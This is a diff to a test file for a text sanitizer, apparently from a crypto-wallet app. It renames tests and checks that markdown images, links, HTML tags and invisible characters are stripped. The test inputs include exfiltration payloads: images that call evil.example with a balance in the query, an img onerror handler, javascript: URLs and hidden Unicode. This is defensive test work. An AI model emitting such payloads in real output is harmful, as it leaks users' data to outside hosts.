@@ -2,13 +2,13 @@ import fc from "fast-check";
 import { expect, test } from "vitest";
 import { safeText, withoutUnseen } from "./safe-text.ts";
 
-test("an image fetches nothing", () => {
+test("an image is removed", () => {
   expect(safeText("![chart](https://evil.example/p.png?balance=12)")).toBe("[chart] (evil.example)");
   expect(safeText("![a][b]\n\n[b]: https://evil.example/x?y=1")).toBe("[a] [b]\n\n[b] : evil.example");
   expect(safeText('<img src="https://evil.example/x?y=1" onerror=go()>')).not.toMatch(/<img|\/x/);
 });
 
-test("a link leaves its words and the name of its host", () => {
+test("a link becomes its text and its host name", () => {
   expect(safeText("See [the docs](https://www.example.org/a/b?c=d#e).")).toBe(
     "See [the docs] (example.org).",
   );
@@ -19,18 +19,18 @@ test("a link leaves its words and the name of its host", () => {
   expect(safeText("[x](javascript:alert(1)) [y](data:text/html,z)")).toBe("[x] (alert(1)) [y] (text/html,z)");
 });
 
-test("characters that show nothing are gone, so nothing hides behind them", () => {
+test("invisible characters are removed", () => {
   expect(safeText("!\u200b[x](https://evil.example/1)")).toBe("[x] (evil.example)");
   expect(withoutUnseen("a\u202eb\u0007c\u{e0041}d\te\n")).toBe("abcd\te\n");
 });
 
-test("tables, code, comparisons, figures and asset ids stay as they are", () => {
+test("tables, code, comparisons, figures and asset ids are kept", () => {
   const text =
     "| Coin | Value |\n|---|---:|\n| ETH | **1,234.50** |\n\n`WHERE a < 3 AND b > 2`\n\n1. eip155:1/erc20:0xabc at 12:30: 5 < 6";
   expect(safeText(text)).toBe(text);
 });
 
-test("no text comes out with an image, a link or a tag in it, and a second pass changes nothing", () => {
+test("the result has no image, link or tag, and is idempotent", () => {
   const pieces = fc.constantFrom(
     "![", "](", "][", "]:", "[", "]", "(", ")", "<", ">", "img src=", "https://", "e.example/q?d=1", "//",
     "www.", "javascript:", "\u200b", " ", "\n", "x", "!", "/", "@",
